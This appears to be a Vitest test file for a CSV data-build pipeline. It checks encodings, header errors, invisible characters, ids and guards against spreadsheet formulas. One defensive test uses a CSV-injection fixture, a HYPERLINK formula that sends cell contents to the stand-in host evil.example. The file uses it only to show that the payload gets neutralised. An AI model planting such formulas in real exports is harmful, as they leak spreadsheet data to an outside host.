import { execFile } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { build, EVENT_COLUMNS } from '../../src/build/build-data';
import { readCsv } from '../../src/build/csv';
import { neutralise } from '../../src/build/openCsv';
import {
	good,
	goodMilestone,
	goodMilitary,
	inputs,
	reviewRows,
	run,
	withField
} from '../fixtures/dataFiles';

const col = (name: (typeof EVENT_COLUMNS)[number]) => EVENT_COLUMNS.indexOf(name);
const angola = withField(good, col('summary'), 'Angola’s ministry said the network would stay.');

/** What Excel's plain "CSV" save writes: Windows-1252, one byte per character. */
function windows1252(text: string): Uint8Array {
	const special: Record<string, number> = { '’': 0x92, '‘': 0x91, '“': 0x93, '”': 0x94, '–': 0x96 };
	return Uint8Array.from([...text].map((ch) => special[ch] ?? ch.charCodeAt(0)));
}

describe('data files from real editors’ tools', () => {
	it('refuses a Windows-1252 file with one line naming the encoding and how to re-save', () => {
		const files = inputs([good, angola]);
		const result = build({ ...files, events: [files.events[0], windows1252(files.events[1])] });
		expect(result.problems).toEqual([
			expect.stringMatching(/^data\/events\.csv:3: encoding: not UTF-8; it looks like Windows-1252/)
		]);
		expect(result.problems[0]).toContain('CSV UTF-8');
		expect(result.outputs).toEqual({});
	});

	it('names UTF-16 when Excel saved "Unicode Text"', () => {
		const files = inputs([good]);
		const utf16 = Uint8Array.from([0xff, 0xfe, ...Buffer.from(files.events[1], 'utf16le')]);
		const result = build({ ...files, events: [files.events[0], utf16] });
		expect(result.problems).toEqual([expect.stringContaining('looks like UTF-16')]);
	});

	it('reads a "CSV UTF-8" file with a byte-order mark as if it had none', () => {
		const files = inputs([good, angola.replace('2020-07-14', '2021-07-14')]);
		const bom = new Uint8Array([0xef, 0xbb, 0xbf, ...Buffer.from(files.events[1])]);
		const withBom = build({ ...files, events: [files.events[0], bom] });
		expect(withBom.problems).toEqual([]);
		expect(withBom.outputs).toEqual(build(files).outputs);
		expect(withBom.outputs['events.csv']).toContain('Angola’s');
	});

	it('reports a wrong header once, without the cross-file checks that would cascade from it', () => {
		const files = inputs([good]);
		const broken = files.events[1].replace(/^id,country,/, 'id,nation,');
		const result = build({ ...files, events: [files.events[0], broken] });
		expect(result.problems).toEqual([
			'data/events.csv:1: header: missing country; unexpected nation'
		]);
	});
});

describe('cells a spreadsheet would run', () => {
	const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
	it.each(['=', '+', '-', '@', '\t', '\r'])('neutralises a cell that starts with %j', (start) => {
		expect(neutralise(`${start}1+1`)).toBe(`'${start}1+1`);
	});
	it.each(['Huawei', '5G core', "'quoted", ' =spaced'])('leaves %j as it is', (cell) => {
		expect(neutralise(cell)).toBe(cell);
	});

	it('publishes no formula in any CSV, and keeps a leading minus readable', () => {
		const summary = `${formula} and more words to pass the length rule`;
		const result = run(
			[withField(good, col('summary'), `"${summary.replace(/"/g, '""')}"`)],
			[withField(goodMilitary, 6, '-50% of the troops left in 2021')],
			{
				reviews: [
					...reviewRows(['ISL']),
					'rev-ISL,ISL,2026-11-01,2026-11,+ nothing found in this test,@search'
				],
				milestones: [withField(goodMilestone, 3, '=1+1 milestone')]
			}
		);
		expect(result.problems).toEqual([]);
		for (const name of ['events.csv', 'us-military.csv', 'reviews.csv', 'milestones.csv']) {
			const { records } = readCsv(result.outputs[name]);
			const cells = records.flatMap((r) => Object.values(r.values));
			expect(
				cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
				name
			).toEqual([]);
		}
		expect(result.outputs['events.csv']).toContain(`'${formula.slice(0, 10)}`);
		expect(result.outputs['us-military.csv']).toContain("'-50% of the troops left in 2021");
		// The site shows the words as written (as text, never run): only spreadsheets need the guard.
		expect(JSON.parse(result.outputs['details/GBR.json']).events[0].summary).toBe(summary);
	});
});

describe('text a reader sees', () => {
	it.each([
		['U+202E', '\u202e'],
		['U+200B', '\u200b'],
		['U+2066', '\u2066'],
		['U+FEFF', '\ufeff']
	])('rejects the invisible format character %s and names it', (name, ch) => {
		const result = run([
			withField(good, col('summary'), `The government ordered${ch} operators to stop.`)
		]);
		expect(result.problems).toEqual([
			`data/events.csv:2: summary: must not contain invisible format characters (found ${name}) ("The government ordered${ch} operators to stop.")`
		]);
	});

	it('truncates an echoed 10 MB value to about 80 characters with its length', () => {
		const huge = 'x'.repeat(10_000_000);
		const result = run([withField(good, col('summary'), huge)]);
		expect(result.problems).toHaveLength(1);
		expect(result.problems[0]).toContain('must be at most 800 characters');
		expect(result.problems[0]).toContain('(10000000 characters)');
		expect(result.problems[0].length).toBeLessThan(200);
	});

	it('keeps line numbers right after a bare quote inside an unquoted field', () => {
		const result = run([
			withField(good, col('scope'), 'Côte d"Ivoire backbone'),
			withField(good.replace('2020-07-14', '2021-01-01'), col('stance'), 'nope')
		]);
		expect(result.problems).toEqual([expect.stringMatching(/^data\/events\.csv:3: stance: /)]);
	});

	it('names the line of a quote that is never closed', () => {
		const result = run([good, withField(good, col('summary'), '"never closed')]);
		expect(result.problems).toEqual([
			expect.stringMatching(/^data\/events\.csv:\d+: row: Quote Not Closed/)
		]);
	});
});

describe('ids', () => {
	it.each([
		[
			'a malformed event id',
			[good.replace('AUTO,', 'gbr-1,')],
			'data/events.csv:2: id: must be an id like GBR-004'
		],
		[
			'a duplicate event id',
			[
				good.replace('AUTO,', 'GBR-001,'),
				good.replace('AUTO,', 'GBR-001,').replace('2020-07-14', '2021-01-01')
			],
			'data/events.csv:3: id: GBR-001 is already used on line 2'
		],
		[
			'an empty id',
			[good.replace('AUTO,', ',')],
			'data/events.csv:2: id: must be an id like GBR-004'
		]
	])('rejects %s', (_name, rows, message) => {
		expect(run(rows).problems).toEqual([expect.stringContaining(message)]);
	});

	it.each([
		['2026-13', 'must be a month written YYYY-MM'],
		['2026-11-01', 'must be a month written YYYY-MM'],
		['2099-01', 'must not be in the future'],
		['2011-12', 'must be 2012-01 or later']
	])('rejects checked_through %s', (month, message) => {
		const reviews = [
			...reviewRows(['ISL']),
			`rev-ISL,ISL,2026-11-01,${month},Nothing found here,test search`
		];
		expect(run([good], [goodMilitary], { reviews }).problems).toEqual([
			expect.stringContaining(`checked_through: ${message}`)
		]);
	});
});

describe('checked_through', () => {
	it('is required for a country with events: readers see where our knowledge of it stops', () => {
		const result = run([good], [goodMilitary], { reviews: reviewRows(['GBR']) });
		expect(result.problems).toEqual([
			'data/events.csv:2: country: GBR has events but no row in data/reviews.csv: add one with checked_through, the month its sources were searched up to'
		]);
	});
});

describe('npm run data through a pipe', () => {
	it('prints every problem when more than 64 KiB of them go to a pipe, and exits 1', async () => {
		const root = mkdtempSync(join(tmpdir(), 'stance-pipe-'));
		cpSync('data', join(root, 'data'), { recursive: true });
		const bad = Array.from({ length: 1500 }, (_, i) =>
			withField(good.replace('AUTO,', `BAD-${String(i).padStart(3, '0')},`), col('country'), 'XYZ')
		);
		const events = readFileSync('data/events.csv', 'utf8');
		writeFileSync(join(root, 'data/events.csv'), events + bad.join('\n') + '\n');
		const script = join(process.cwd(), 'src/build/build-data.ts');
		const tsx = join(process.cwd(), 'node_modules/.bin/tsx');
		const run = promisify(execFile);
		const outcome = await run('bash', ['-c', `set -o pipefail; "${tsx}" "${script}" 2>&1 | cat`], {
			cwd: root,
			maxBuffer: 64 * 1024 * 1024
		}).catch((error: { stdout: string; code: number }) => error);
		const lines = outcome.stdout
			.split('\n')
			.filter((l) => l.includes(': country: unknown country code'));
		expect(outcome.stdout.length).toBeGreaterThan(64 * 1024);
		expect(lines).toHaveLength(bad.length);
		expect(outcome.stdout).toMatch(
			/\n\d+ problem\(s\); nothing written, static\/data\/ still holds/
		);
		expect('code' in outcome && outcome.code).toBe(1);
	}, 60_000);
});
